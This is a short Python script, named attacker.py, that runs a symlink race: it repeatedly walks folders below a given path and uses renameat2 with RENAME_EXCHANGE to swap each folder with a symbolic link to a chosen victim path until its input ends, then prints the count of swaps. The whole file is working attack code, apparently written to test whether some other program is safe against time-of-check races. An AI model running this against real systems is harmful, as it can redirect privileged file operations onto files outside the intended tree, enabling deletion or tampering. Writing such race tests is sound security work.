"""Exchanges folders and links below a folder, as fast as it can, until its input ends.

Usage: attacker.py FOLDER VICTIM. Every folder that it meets below FOLDER is exchanged with a link to VICTIM, and sometimes back.
Prints the number of exchanges at its end.
"""

import ctypes
import os
import random
import select
import sys

AT_FDCWD = -100
RENAME_EXCHANGE = 2
DEPTH_MAX = 5

libc = ctypes.CDLL(None, use_errno=True)
folder, victim = (os.fsencode(each) for each in sys.argv[1:])
exchanges = 0


def exchange(first, second):
    global exchanges
    if libc.renameat2(AT_FDCWD, first, AT_FDCWD, second, RENAME_EXCHANGE) == 0:
        exchanges += 1


def attack(path, depth):
    try:
        entries = list(os.scandir(path))
    except OSError:
        return
    random.shuffle(entries)
    for entry in entries:
        try:
            is_folder = entry.is_dir(follow_symlinks=False)
        except OSError:
            continue
        if not is_folder:
            continue
        link = entry.path + b"~"
        try:
            os.symlink(victim, link)
        except OSError:
            pass
        exchange(entry.path, link)
        if random.random() < 0.7:
            exchange(entry.path, link)
        if depth < DEPTH_MAX:
            attack(entry.path, depth + 1)


print("ready", flush=True)
while not select.select([sys.stdin], [], [], 0)[0]:
    attack(folder, 0)
print(exchanges, flush=True)
